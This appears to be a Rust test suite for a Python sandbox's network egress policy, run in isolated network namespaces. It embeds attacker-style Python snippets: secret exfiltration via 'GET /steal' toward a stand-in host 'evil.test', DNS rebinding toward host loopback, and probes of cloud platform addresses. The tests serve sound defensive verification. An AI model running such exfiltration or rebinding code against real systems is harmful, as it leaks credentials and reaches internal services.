//! Egress under a hostile model (issue 41's findings, each failing before its fix): the host side
//! in network namespaces the test makes, "public" addresses on a peer namespace's loopback, a
//! proxy that resolves names as a real one does (`runpython_tests::world`). No packet of these
//! tests can leave the machine: the world has no route anywhere else. Each runs as root and, in
//! CI, as an unprivileged user (where the kernel lets it make the namespaces).

#![allow(clippy::unwrap_used)] // a test fails loudly where it unwraps

use std::net::IpAddr;
use std::time::Duration;

use runpython_core::{Envelope, Network, NetworkPolicy, RunPython, Secret, Status};
use runpython_tests::world::{self, Proxy, World, API, ATTACKER};
use serde_json::{json, Value};

/// The proxy's address inside the world (its host namespace is the test's own: the port is free).
const PROXY: &str = "127.0.0.1:3128";

fn policy(public: bool, allow: &[&str], resolve: &[(&str, IpAddr)]) -> NetworkPolicy {
    NetworkPolicy {
        public,
        allow: allow.iter().map(|p| p.parse().unwrap()).collect(),
        resolve: resolve
            .iter()
            .map(|(n, ip)| ((*n).to_owned(), *ip))
            .collect(),
        ..NetworkPolicy::default()
    }
}

fn engine(policy: NetworkPolicy) -> runpython_core::RunPythonBuilder {
    RunPython::builder()
        .timeout(Duration::from_secs(60))
        .network(Network::Policy(policy))
}

fn enforced() -> bool {
    let report = engine(NetworkPolicy::public_internet())
        .build()
        .unwrap()
        .isolation_report()
        .unwrap();
    if report.network != "public" {
        eprintln!("skipped: no network policy here: {:?}", report.missing);
    }
    report.network == "public"
}

async fn run(engine: &RunPython, code: &str) -> Envelope {
    let e = engine.run(code).await.unwrap();
    assert_eq!(e.status, Status::Success, "{:?} {}", e.error, e.stderr);
    e
}

fn network(e: &Envelope) -> Value {
    serde_json::to_value(&e.network).unwrap()
}

/// Whether the envelope's refusals name `host` with a reason holding every one of `says`.
fn refused(e: &Envelope, host: &str, says: &[&str]) -> bool {
    network(e)["refused"]
        .as_array()
        .into_iter()
        .flatten()
        .any(|r| {
            let reason = r["reason"].as_str().unwrap_or("");
            r["host"] == host && says.iter().all(|s| reason.contains(s))
        })
}

/// A value no run could guess.
fn value(tag: &str) -> String {
    let mut bytes = [0u8; 16];
    getrandom::fill(&mut bytes).unwrap();
    let hex: String = bytes.iter().map(|b| format!("{b:02x}")).collect();
    format!("sk-{tag}-{hex}")
}

#[tokio::test(flavor = "multi_thread")]
async fn the_hosts_proxy_tunnels_to_the_decided_address_so_rebinding_reaches_nothing() {
    let proxy_url = format!("http://{PROXY}");
    let name = "the_hosts_proxy_tunnels_to_the_decided_address_so_rebinding_reaches_nothing";
    let Some(world) = World::enter(name, &[("HTTPS_PROXY", &proxy_url)]).await else {
        return;
    };
    if !enforced() {
        return;
    }
    // The name answers the run with a public address, and the proxy with the host's loopback.
    let loopback = IpAddr::from([127, 0, 0, 1]);
    let proxy = Proxy::start(PROXY.parse().unwrap(), &[("rebind.test", loopback)])
        .await
        .unwrap();
    let service = world::host_loopback_recorder(8080).await.unwrap();
    let engine = engine(policy(true, &[], &[("rebind.test", IpAddr::V4(API))]))
        .build()
        .unwrap();
    let code = "import urllib.request\n\
        urllib.request.urlopen('http://rebind.test:8080/service', timeout=20).read().decode()";
    let e = run(&engine, code).await;
    assert_eq!(e.return_value, json!("ok"), "{:?}", e.error);
    assert!(
        service.seen().is_empty(),
        "the host's loopback answered: {:?}",
        service.seen()
    );
    assert_eq!(
        proxy.requests(),
        [format!("CONNECT {API}:8080 HTTP/1.1")],
        "the tunnel must name the decided address"
    );
    assert_eq!(world.seen(IpAddr::V4(API), 8080).len(), 1);
    assert_eq!(network(&e)["connections"], 1, "{}", network(&e));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_secret_goes_only_to_the_address_its_host_resolved_to_even_through_the_proxy() {
    let proxy_url = format!("http://{PROXY}");
    let name = "a_secret_goes_only_to_the_address_its_host_resolved_to_even_through_the_proxy";
    let Some(world) = World::enter(name, &[("HTTPS_PROXY", &proxy_url)]).await else {
        return;
    };
    if !enforced() {
        return;
    }
    // evil.test answers the run with the secret host's address, and the proxy with its own.
    let proxy = Proxy::start(
        PROXY.parse().unwrap(),
        &[
            ("evil.test", IpAddr::V4(ATTACKER)),
            ("api.test", IpAddr::V4(API)),
        ],
    )
    .await
    .unwrap();
    let pins = [
        ("evil.test", IpAddr::V4(API)),
        ("api.test", IpAddr::V4(API)),
    ];
    let code = "import os, socket\n\
        socket.getaddrinfo('evil.test', 80); socket.getaddrinfo('api.test', 80)\n\
        s = socket.create_connection(('93.184.215.14', 80), timeout=20)\n\
        s.sendall(('GET /steal HTTP/1.1\\r\\nHost: api.test\\r\\nAuthorization: Bearer ' + os.environ['API_KEY'] + '\\r\\nConnection: close\\r\\n\\r\\n').encode())\n\
        data = b''\n\
        while chunk := s.recv(65536): data += chunk\n\
        data.decode(errors='replace').split(' ')[1]";
    for over_http in [true, false] {
        let secret_value = value("proxy");
        let mut secret = Secret::new("API_KEY", &secret_value, vec!["api.test".parse().unwrap()]);
        secret.over_http = over_http;
        let engine = engine(policy(true, &[], &pins))
            .secret(secret)
            .build()
            .unwrap();
        let e = run(&engine, code).await;
        let attacker = world.seen(IpAddr::V4(ATTACKER), 80);
        assert!(
            attacker.is_empty(),
            "over_http {over_http}: the attacker got {attacker:?}"
        );
        assert!(
            proxy
                .requests()
                .iter()
                .all(|r| r == &format!("CONNECT {API}:80 HTTP/1.1")),
            "{:?}",
            proxy.requests()
        );
        let api = world.seen(IpAddr::V4(API), 80).join("\n");
        if over_http {
            // Allowed over plain HTTP: the value went to the address api.test resolved to, only.
            assert_eq!(e.return_value, json!("200"), "{e:?}");
            assert!(api.contains(&format!("Bearer {secret_value}")), "{api}");
        } else {
            assert_eq!(e.return_value, json!("403"), "{e:?}");
            assert!(!api.contains(&secret_value), "{api}");
            assert!(
                refused(&e, "api.test", &["API_KEY", "plaintext"]),
                "{}",
                network(&e)
            );
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_secret_goes_out_only_over_tls_that_verifies_for_its_host() {
    let name = "a_secret_goes_out_only_over_tls_that_verifies_for_its_host";
    let Some(world) = World::enter(name, &[]).await else {
        return;
    };
    if !enforced() {
        return;
    }
    let (key, port_key) = (value("tls"), value("port"));
    let engine = engine(policy(
        false,
        &["api.test"],
        &[("api.test", IpAddr::V4(API))],
    ))
    .secret(Secret::new(
        "API_KEY",
        &key,
        vec!["api.test".parse().unwrap()],
    ))
    .secret(Secret::new(
        "PORT_KEY",
        &port_key,
        vec!["api.test:8080".parse().unwrap()],
    ))
    .upstream_ca(world.ca().ca_pem.into_bytes())
    .build()
    .unwrap();
    let code = r#"
import os, urllib.error, urllib.request
def get(url, key):
    headers = {"Authorization": "Bearer " + os.environ[key]}
    try:
        with urllib.request.urlopen(urllib.request.Request(url, headers=headers), timeout=20) as r:
            return r.status
    except urllib.error.HTTPError as e:
        return e.code
    except Exception as e:
        return type(e).__name__
[get("http://api.test/plain", "API_KEY"), get("http://api.test:8080/port", "PORT_KEY"),
 get("https://api.test/verified", "API_KEY"), get("https://api.test:8443/unverifiable", "API_KEY")]
"#;
    let e = run(&engine, code).await;
    assert_eq!(
        e.return_value,
        json!([403, 403, 200, 502]),
        "{}",
        network(&e)
    );
    let api = IpAddr::V4(API);
    for port in [80, 8080, 8443] {
        let seen = world.seen(api, port).join("\n");
        assert!(
            !seen.contains(&key) && !seen.contains(&port_key),
            "{port}: {seen}"
        );
    }
    let verified = world.seen(api, 443).join("\n");
    assert!(verified.contains(&format!("Bearer {key}")), "{verified}");
    assert!(refused(
        &e,
        "api.test",
        &["API_KEY", "plaintext", "--secret-over-http API_KEY"]
    ));
    assert!(
        refused(&e, "api.test", &["PORT_KEY", "plaintext"]),
        "{}",
        network(&e)
    );
    assert!(
        refused(
            &e,
            "api.test",
            &["API_KEY", "its value was not sent to api.test:8443"]
        ),
        "{}",
        network(&e)
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_full_log_hides_no_connection_byte_or_refusal() {
    let name = "a_full_log_hides_no_connection_byte_or_refusal";
    let Some(world) = World::enter(name, &[]).await else {
        return;
    };
    if !enforced() {
        return;
    }
    let engine = engine(policy(false, &["93.184.215.14:80"], &[]))
        .build()
        .unwrap();
    // 10,050 refused connects fill the 10,000-entry log (the C method: no message asked for),
    // then a 100 KB upload is allowed.
    let code = r#"
import _socket, urllib.request
s = _socket.socket()
refused = 0
for _ in range(10050):
    try:
        _socket.socket.connect(s, ("93.184.215.99", 80))
    except PermissionError:
        refused += 1
s.close()
body = b"x" * 100000
r = urllib.request.urlopen(urllib.request.Request("http://93.184.215.14/upload", data=body), timeout=20)
[refused, r.status]
"#;
    let e = run(&engine, code).await;
    assert_eq!(e.return_value, json!([10050, 200]));
    let n = network(&e);
    assert_eq!(n["connections"], 1, "{n}");
    assert!(n["bytes_out"].as_u64().unwrap() >= 100_000, "{n}");
    assert!(n["bytes_in"].as_u64().unwrap() > 0, "{n}");
    assert_eq!(n["refusals"], 10_050, "{n}");
    assert_eq!(n["log_truncated"], true, "{n}");
    assert!(
        refused(&e, &ATTACKER.to_string(), &["not on the allowlist"]),
        "{n}"
    );
    let uploads = world.seen(IpAddr::V4(API), 80);
    assert_eq!(uploads.len(), 1);
    assert!(uploads[0].ends_with(&"x".repeat(100_000)));
}

#[tokio::test(flavor = "multi_thread")]
async fn refusals_cost_no_tool_calls_and_the_clouds_platform_addresses_are_refused() {
    let name = "refusals_cost_no_tool_calls_and_the_clouds_platform_addresses_are_refused";
    let Some(world) = World::enter(name, &[]).await else {
        return;
    };
    if !enforced() {
        return;
    }
    let engine = engine(NetworkPolicy::public_internet())
        .max_tool_calls(3)
        .build()
        .unwrap();
    let platform: Vec<IpAddr> = world::PEER_V4
        .iter()
        .map(|ip| IpAddr::V4(*ip))
        .chain(world::PEER_V6.iter().map(|ip| IpAddr::V6(*ip)))
        .filter(|ip| {
            *ip != IpAddr::V4(API) && *ip != IpAddr::V4(ATTACKER) && *ip != IpAddr::V6(world::API6)
        })
        .collect();
    let listed: Vec<String> = platform.iter().map(ToString::to_string).collect();
    let code = format!(
        r#"
import socket
out = []
for host in {hosts}:
    try:
        socket.create_connection((host, 80), timeout=5).close()
        out.append("connected")
    except OSError as e:
        out.append(type(e).__name__ + ": " + str(e))
said = 0
for _ in range(2000):
    s = socket.socket()
    try:
        s.connect(("168.63.129.16", 80))
    except PermissionError as e:
        said += "network policy refused" in str(e)
    s.close()
[out, said]
"#,
        hosts = serde_json::to_string(&listed).unwrap()
    );
    let e = run(&engine, &code).await;
    let v = &e.return_value;
    for (ip, outcome) in platform.iter().zip(v[0].as_array().unwrap()) {
        let outcome = outcome.as_str().unwrap();
        assert!(
            outcome.starts_with("PermissionError")
                && outcome.contains("runpython's network policy refused"),
            "{ip}: {outcome}"
        );
        assert!(world.seen(*ip, 80).is_empty(), "{ip} was reached");
        assert!(
            refused(&e, &ip.to_string(), &["--allow-host"]),
            "{ip}: {}",
            network(&e)
        );
    }
    assert_eq!(v[1], 2000, "every refusal named its rule");
    assert!(
        world.seen_anywhere().is_empty(),
        "{:?}",
        world.seen_anywhere()
    );
}
